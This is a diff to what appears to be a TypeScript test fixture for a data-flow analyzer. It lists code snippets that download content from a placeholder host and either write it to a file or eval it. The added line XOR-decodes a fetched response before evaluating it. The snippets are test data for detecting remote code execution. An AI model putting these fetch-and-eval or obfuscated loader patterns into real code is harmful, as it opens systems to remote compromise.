@@ -106,6 +106,7 @@ const answers: readonly (readonly [code: Source, flow: string])[] = [
   [`require('https').get('${away}', r => r.pipe(require('fs').createWriteStream('a')))`, 'response → file'],
   [`const x = new XMLHttpRequest(); x.onload = () => eval(x.responseText)`, 'response → code'],
   [`const got = require('got'); got('${away}').then(({ body }) => eval(body))`, 'response → code'],
+  [`fetch('${away}').then(r => r.arrayBuffer()).then(k => { const s = Buffer.alloc(k.length); for (let i = 0; i < k.length; i++) s[i] = k[i] ^ 7; eval(s.toString()) })`, 'response → code'],
 ]
 
 const linked: readonly (readonly [files: Readonly<Record<string, string>>, flow: string])[] = [
